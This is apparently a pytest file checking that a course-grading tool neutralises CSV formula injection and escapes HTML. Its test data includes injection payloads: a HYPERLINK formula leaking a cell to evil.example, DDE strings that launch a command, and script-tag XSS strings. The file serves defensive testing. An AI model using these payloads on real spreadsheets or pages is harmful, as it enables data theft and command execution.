"""Names and messages made safe for CSV (no formulas) and HTML (no markup)."""
from __future__ import annotations

import csv
import io

import pytest

from course_grader.grading.safe_text import csv_cell, html_text


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=1", "'=1"),
    ("-", "'-"),
])
def test_formulas_are_neutralised(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value", ["alice", "a=b", "x+1", "", "O'Brien", "12", "-3", "+1.5", "-0.25e3",
                                   ".5", "20/24", "ok"])
def test_plain_values_are_kept(value):
    assert csv_cell(value) == value


def test_numbers_and_none():
    assert csv_cell(-3) == "-3"
    assert csv_cell(2.5) == "2.5"
    assert csv_cell(None) == ""


def test_a_neutralised_cell_survives_the_csv_writer():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell('=HYPERLINK("x","y")'), csv_cell("bob")])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ['\'=HYPERLINK("x","y")', "bob"]


def test_html_is_escaped():
    assert html_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert html_text('"><script>alert(1)</script>') == "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    assert html_text("O'Brien & co") == "O&#x27;Brien &amp; co"
    assert html_text(None) == ""
    assert html_text(3) == "3"
